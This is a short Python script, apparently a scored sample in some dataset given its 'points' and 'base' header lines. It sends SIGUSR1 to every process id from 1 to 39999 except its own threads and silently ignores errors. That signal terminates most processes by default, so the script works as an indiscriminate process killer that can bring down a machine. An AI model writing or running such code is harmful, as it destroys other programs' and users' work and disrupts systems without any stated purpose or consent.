# Signals every process id that there is, but its own threads.
# points: 40
# base: untrained
import os
import signal

own = {int(thread) for thread in os.listdir("/proc/self/task")}
for pid in range(1, 40000):
    if pid not in own:
        try:
            os.kill(pid, signal.SIGUSR1)
        except OSError:
            pass
